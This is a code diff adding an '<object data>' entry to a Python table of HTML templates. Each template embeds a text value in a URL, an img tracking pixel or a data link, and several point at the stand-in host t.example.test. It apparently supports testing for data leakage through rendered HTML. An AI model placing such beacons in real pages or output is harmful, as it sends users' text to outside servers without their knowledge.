@@ -250,6 +250,8 @@ PLACES: dict[str, Callable[[str, str], bytes]] = {
         lambda t: f'<p style="background:url(/bg.gif?note={quote_plus(t)})">Hello</p>'),
     "html_data_address": _html(lambda t: '<a href="data:text/plain;base64,'
                                f'{base64.b64encode(t.encode()).decode()}">notes</a>'),
+    "html_object_data": _html(
+        lambda t: f'<object data="https://t.example.test/o?note={quote_plus(t)}"></object>'),
     "html_tracking_picture": _html(
         lambda t: f'<img src="https://t.example.test/open.gif?note={quote_plus(t)}">'),
 }
